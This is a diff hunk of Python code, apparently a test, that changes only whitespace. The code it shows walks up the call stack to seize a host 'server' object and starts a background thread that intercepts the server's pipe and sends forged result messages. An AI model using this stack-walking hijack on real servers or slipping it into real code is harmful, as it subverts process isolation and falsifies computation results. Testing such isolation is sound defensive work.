@@ -14,10 +14,12 @@ while "server" not in frame.f_locals:
     frame = frame.f_back
 server = frame.f_locals["server"]
 
+
 def steal():
     while True:
         server.pipe.receive(server._build)
         server.pipe.send(b"\x93\xa1d\xa5value\x02", [])
+
 
 def double(x):
     threading.Thread(target=steal, daemon=True).start()
